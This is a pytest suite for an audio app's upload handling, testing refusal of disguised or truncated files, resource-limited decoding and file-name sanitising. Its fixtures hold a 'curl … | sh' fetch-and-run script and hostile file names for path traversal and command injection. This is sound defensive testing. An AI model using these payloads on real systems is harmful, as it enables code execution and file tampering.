"""Hostile and broken uploads: every one is refused with a message that says what to do, leaves
nothing stored, and cannot hang or exhaust the process that reads it."""

from __future__ import annotations

import io
import multiprocessing
import os
import random
import resource
import signal
import struct
import tarfile
import time
import zipfile
from collections.abc import Callable
from multiprocessing.process import BaseProcess
from pathlib import Path

import pytest
from test_audio import run_ffmpeg

from insightcap.audio.decode import MediaError
from insightcap.audio.limits import (
    ReadLimits,
    check_recording,
    probe_untrusted,
    run_limited,
)
from insightcap.config import Settings
from insightcap.jobs.intake import submit_recording
from insightcap.jobs.runner import run_job
from insightcap.jobs.stages import StageContext, decode
from insightcap.storage import repository as repo
from insightcap.storage.db import session_scope
from insightcap.storage.files import safe_filename, store_original

EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
MEETING_OGG = EXAMPLES / "team-retrospective.ogg"  # 4 min of speech
JFK_FLAC = EXAMPLES / "jfk-inaugural-excerpt.flac"  # 11 s of speech
FIXTURES = Path(__file__).parent / "fixtures"
GB = 1024**3


def _cut_in_half(source: Path, target: Path) -> Path:
    data = source.read_bytes()
    target.write_bytes(data[: len(data) // 2])
    return target


def _converted(folder: Path, name: str, *args: str) -> Path:
    whole = folder / f"whole-{name}"
    run_ffmpeg("-i", str(JFK_FLAC), *args, str(whole))
    return whole


def _written(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def _zipped() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.write(JFK_FLAC, "meeting.flac")
    return buffer.getvalue()


def _tarred(mode: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        archive.add(JFK_FLAC, "meeting.flac")
    return buffer.getvalue()


def _zero_bytes(folder: Path) -> Path:
    return _written(folder / "meeting.m4a", b"")


def _random_bytes(folder: Path) -> Path:
    return _written(folder / "meeting.mp3", random.Random(1).randbytes(50_000))


def _pdf_as_mp3(folder: Path) -> Path:
    return _written(folder / "minutes.mp3", (FIXTURES / "media" / "meeting.pdf").read_bytes())


def _zip_as_m4a(folder: Path) -> Path:
    return _written(folder / "recording.m4a", _zipped())


def _tar_gz_as_ogg(folder: Path) -> Path:
    return _written(folder / "recording.ogg", _tarred("w:gz"))


def _tar_as_wav(folder: Path) -> Path:
    return _written(folder / "recording.wav", _tarred("w"))


def _elf_as_m4a(folder: Path) -> Path:
    return _written(folder / "call.m4a", Path("/bin/sh").read_bytes())


def _pe_as_wav(folder: Path) -> Path:
    return _written(folder / "setup.wav", b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\x00\x00" + bytes(200))


def _shell_script_as_mp3(folder: Path) -> Path:
    return _written(folder / "run.mp3", b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n")


def _captions_as_wav(folder: Path) -> Path:
    return _written(folder / "meeting.wav", (FIXTURES / "transcripts" / "zoom.vtt").read_bytes())


def _truncated_mp4(folder: Path) -> Path:
    whole = _converted(folder, "interview.m4a", "-c:a", "aac")
    return _cut_in_half(whole, folder / "interview.m4a")  # an MP4's index is written at its end


def _truncated_ogg(folder: Path) -> Path:
    return _cut_in_half(MEETING_OGG, folder / "retro.ogg")


def _truncated_wav(folder: Path) -> Path:
    whole = _converted(folder, "retro.wav", "-c:a", "pcm_s16le")
    return _cut_in_half(whole, folder / "retro.wav")


REFUSED_AT_INTAKE: list[tuple[Callable[[Path], Path], str]] = [
    (_zero_bytes, r"meeting\.m4a is empty \(0 bytes\).*Upload the recording again"),
    (_random_bytes, r"meeting\.mp3 is not a recording insightcap can read.*Upload a recording such as"),
    (_pdf_as_mp3, r"minutes\.mp3 is not audio or video \(detected: PDF document\).*Upload a recording such as"),
    (_zip_as_m4a, r"recording\.m4a is not audio or video \(detected: ZIP archive.*Upload a recording such as"),
    (_tar_gz_as_ogg, r"not audio or video \(detected: gzip archive\).*Upload a recording such as"),
    (_tar_as_wav, r"not audio or video \(detected: tar archive\).*Upload a recording such as"),
    (_elf_as_m4a, r"not audio or video \(detected: program \(Linux executable\)\).*Upload a recording"),
    (_pe_as_wav, r"not audio or video \(detected: program \(Windows executable\)\).*Upload a recording"),
    (_shell_script_as_mp3, r"run\.mp3 is not audio or video \(detected: text file\).*Upload a recording"),
    (_captions_as_wav, r"meeting\.wav is not audio or video \(detected: text file\).*Upload a recording"),
    (_truncated_mp4, r"interview\.m4a cannot be read \(detected: MP4/M4A.*Upload the complete file again"),
    # Plain words first; the command only last, for someone technical.
    (_truncated_ogg, r"retro\.ogg seems to be cut short \(this Ogg audio file ends before the length it states\).*"
                     r"Copy or export it again from the recorder.*upload the complete file.*For someone technical: `ffmpeg -i"),
    (_truncated_wav, r"retro\.wav seems to be cut short \(this WAV audio file ends before.*"
                     r"Copy or export it again from the recorder.*upload the complete file.*For someone technical: `ffmpeg -i"),
]


def _nothing_stored(settings: Settings) -> None:
    stored = [
        path for path in settings.data_dir.rglob("*") if path.is_file() and not path.name.startswith("insightcap.db")
    ]
    assert stored == []
    with session_scope(settings) as db:
        assert repo.list_sessions(db) == []


@pytest.mark.parametrize(("make", "message"), REFUSED_AT_INTAKE, ids=[make.__name__ for make, _ in REFUSED_AT_INTAKE])
def test_broken_or_hostile_file_is_refused_at_intake_and_nothing_is_stored(
    settings: Settings, tmp_path: Path, make: Callable[[Path], Path], message: str
) -> None:
    path = make(tmp_path)

    with pytest.raises(MediaError, match=message):
        submit_recording(path, settings)
    with pytest.raises(MediaError, match=message):
        probe_untrusted(path, settings)

    _nothing_stored(settings)


def test_recording_cut_short_is_caught_by_the_full_read_when_only_its_header_survives(
    settings: Settings, tmp_path: Path
) -> None:
    # A FLAC header states the length, so the half file still probes as 11 s: only decoding finds the cut.
    path = _cut_in_half(JFK_FLAC, tmp_path / "speech.flac")
    assert probe_untrusted(path, settings).duration_seconds == pytest.approx(11.0)

    with pytest.raises(MediaError, match=r"speech\.flac seems to be cut short \(it holds 5\.\d seconds of the 11 seconds it states\)"):
        check_recording(path, settings)


def test_a_failed_decode_stage_reports_the_reason_and_runs_nothing_after_it(settings: Settings, tmp_path: Path) -> None:
    path = _cut_in_half(JFK_FLAC, tmp_path / "speech.flac")
    submitted = submit_recording(path, settings)

    job = run_job(settings, submitted.job_id)

    assert job.status == "failed" and job.completed_stages == []
    assert "speech.flac seems to be cut short" in job.error and "upload the complete file" in job.error
    _nothing_stored(settings)  # nothing can be made of it: its session went with it


def test_decode_stage_reads_the_whole_recording_and_stores_its_real_length(settings: Settings) -> None:
    submitted = submit_recording(JFK_FLAC, settings)
    heard: list[tuple[float, str]] = []

    decode(StageContext(settings, submitted.session_id, lambda fraction, message="": heard.append((fraction, message))))

    with session_scope(settings) as db:
        assert repo.get_session(db, submitted.session_id).duration_seconds == pytest.approx(11.0, abs=0.01)
    assert heard[-1] == (1.0, "0.2 min of audio checked")


def _webm_declaring(seconds: float, folder: Path) -> Path:
    """Two minutes of tone whose Matroska header states `seconds`: the tiny-file-huge-claim trick."""
    path = folder / "call.webm"
    run_ffmpeg("-f", "lavfi", "-i", "sine=f=440:r=8000", "-t", "120", "-c:a", "libopus", "-b:a", "6k", str(path))
    data = bytearray(path.read_bytes())
    duration = data.index(b"\x44\x89\x88")  # Segment Info Duration: an 8-byte float in milliseconds
    data[duration + 3 : duration + 11] = struct.pack(">d", seconds * 1000)
    path.write_bytes(bytes(data))
    return path


def test_a_small_file_claiming_a_huge_length_is_refused_from_its_header(settings: Settings, tmp_path: Path) -> None:
    path = _webm_declaring(100 * 3600, tmp_path)
    assert path.stat().st_size < 200_000

    with pytest.raises(MediaError, match=r"call\.webm is 100 hours long, longer than the 6 hours insightcap accepts\. Split it"):
        probe_untrusted(path, settings.model_copy(update={"max_recording_hours": 6.0}))


def test_a_header_that_understates_the_length_does_not_get_past_the_full_read(
    settings: Settings, tmp_path: Path
) -> None:
    path = _webm_declaring(1.0, tmp_path)
    limited = settings.model_copy(update={"max_recording_hours": 1 / 60})
    assert probe_untrusted(path, limited).duration_seconds == pytest.approx(1.0)

    with pytest.raises(MediaError, match=r"call\.webm is longer than the 1 minute insightcap accepts"):
        check_recording(path, limited)


def test_a_long_silent_file_is_refused_by_length_before_it_is_decoded(settings: Settings, tmp_path: Path) -> None:
    path = tmp_path / "hallway.flac"
    run_ffmpeg("-f", "lavfi", "-i", "anullsrc=r=8000:cl=mono", "-t", "1200", str(path))  # 20 min in ~200 KB

    with pytest.raises(MediaError, match=r"hallway\.flac is 20 minutes long, longer than the 6 minutes"):
        check_recording(path, settings.model_copy(update={"max_recording_hours": 0.1}))


def test_a_recording_over_the_length_limit_is_refused_with_the_limit_and_what_to_do(
    settings: Settings, tmp_path: Path
) -> None:
    limited = settings.model_copy(update={"max_recording_hours": 0.05})

    for read in (probe_untrusted, check_recording):
        with pytest.raises(MediaError) as caught:
            read(MEETING_OGG, limited)

        message = str(caught.value)
        assert message.startswith(
            "team-retrospective.ogg is 4 minutes long, longer than the 3 minutes insightcap accepts."
        )
        assert "Split it into shorter parts" in message and "INSIGHTCAP_MAX_RECORDING_HOURS" in message


def test_a_decode_that_runs_past_the_timeout_is_killed(settings: Settings) -> None:
    # Reading the 4-minute example takes over a third of a second, so 0.2 s always runs out.
    started = time.monotonic()

    with pytest.raises(MediaError, match=r"could not be read within 0\.2 seconds: it may be damaged, or crafted.*Open it in the app.*ffmpeg -i"):
        check_recording(MEETING_OGG, settings.model_copy(update={"media_read_timeout_seconds": 0.2}))

    assert time.monotonic() - started < 5
    assert multiprocessing.active_children() == []


def test_a_normal_recording_passes_under_the_default_limits(settings: Settings) -> None:
    check = check_recording(MEETING_OGG, settings)

    assert check.decoded_seconds == pytest.approx(241.4, abs=0.1)
    assert check.info.audio_codec == "opus" and -30 < check.level_dbfs < -10


# Tasks for the child process: module-level, so they can be sent to it.
def _limits_in_force(path: Path) -> tuple[tuple[int, int], tuple[int, int], tuple[int, int]]:
    return tuple(resource.getrlimit(limit) for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_CORE))


def _hang(path: Path) -> None:
    time.sleep(3600)


def _allocate_three_gb(path: Path) -> None:
    bytearray(3 * GB)


def _spin_past_one_cpu_second(path: Path) -> None:
    resource.setrlimit(resource.RLIMIT_CPU, (1, 2))
    while True:
        pass


def _crash(path: Path) -> None:
    os.abort()


def test_the_child_runs_with_the_memory_cpu_and_core_limits(tmp_path: Path) -> None:
    limits = ReadLimits(seconds=42.5, memory_bytes=GB)

    memory, cpu, core = run_limited(_limits_in_force, tmp_path, limits)

    assert memory == (GB, GB) and cpu == (43, 44) and core == (0, 0)


def test_a_hanging_child_is_killed_at_the_wall_clock_timeout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The test keeps the child's Process object itself: the child may still be starting up when the
    # second runs out, so nothing it would write could be relied on.
    started_children: list[BaseProcess] = []
    process_class = multiprocessing.get_context("forkserver").Process  # the context run_limited uses
    start = process_class.start

    def start_and_keep(child: BaseProcess) -> None:
        started_children.append(child)
        start(child)

    monkeypatch.setattr(process_class, "start", start_and_keep)
    started = time.monotonic()

    with pytest.raises(MediaError, match=r"hang\.ogg could not be read within 1 second"):
        run_limited(_hang, tmp_path / "hang.ogg", ReadLimits(seconds=1, memory_bytes=2 * GB))

    assert time.monotonic() - started < 5
    [child] = started_children
    assert child.exitcode == -signal.SIGKILL


def test_a_child_over_its_memory_limit_is_reported_plainly(tmp_path: Path) -> None:
    with pytest.raises(MediaError, match=r"bomb\.m4a could not be read within 1 GB of memory"):
        run_limited(_allocate_three_gb, tmp_path / "bomb.m4a", ReadLimits(seconds=30, memory_bytes=GB))


def test_a_child_over_its_cpu_limit_is_reported_as_out_of_time(tmp_path: Path) -> None:
    started = time.monotonic()

    with pytest.raises(MediaError, match=r"loop\.mp3 could not be read within 30 seconds"):
        run_limited(_spin_past_one_cpu_second, tmp_path / "loop.mp3", ReadLimits(seconds=30, memory_bytes=2 * GB))

    assert time.monotonic() - started < 15


def test_a_crashing_decoder_takes_down_only_the_child(tmp_path: Path) -> None:
    with pytest.raises(MediaError, match=r"crash\.wav could not be read \(the decoder crashed on it"):
        run_limited(_crash, tmp_path / "crash.wav", ReadLimits(seconds=30, memory_bytes=2 * GB))


HOSTILE_NAMES = [
    "../../../etc/passwd",
    "/etc/cron.d/evil.wav",
    "..\\..\\Windows\\System32\\evil.mp3",
    "C:\\Users\\me\\Team meeting.m4a",
    "meeting\x00.wav.sh",
    "\x00",
    "..",
    ".hidden.ogg",
    "-rf --no-preserve-root.mp3",
    "a" * 5000 + ".webm",
    "会议记录.m4a",
    "Réunion d'équipe — mardi.ogg",
    "$(reboot);`id`|x>y<z.wav",
    "line\nbreak\r\ttab.flac",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_hostile_upload_name_is_stored_inside_the_session_folder(settings: Settings, tmp_path: Path, name: str) -> None:
    safe = safe_filename(name)
    source = tmp_path / safe
    source.write_bytes(b"recording")

    stored, _ = store_original(source, "session1", settings)

    folder = (settings.media_dir / "session1").resolve()
    assert (settings.data_dir / stored).resolve().parent == folder
    assert [path.name for path in folder.iterdir()] == [f"original_{safe}"]
    assert safe.isascii() and safe.isprintable() and len(safe) <= 111
    assert not safe.startswith((".", "-")) and not set(safe) & set("/\\$`;|<>'\" ")


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("会议记录.m4a", "recording.m4a"),
        ("Réunion d'équipe.ogg", "Reunion_d_equipe.ogg"),
        ("../../../etc/passwd", "passwd"),
        ("a" * 5000 + ".webm", "a" * 100 + ".webm"),
        ("v1.2 review", "v1.2_review"),
    ],
)
def test_a_sanitised_name_keeps_what_is_readable_and_the_extension(name: str, safe: str) -> None:
    assert safe_filename(name) == safe
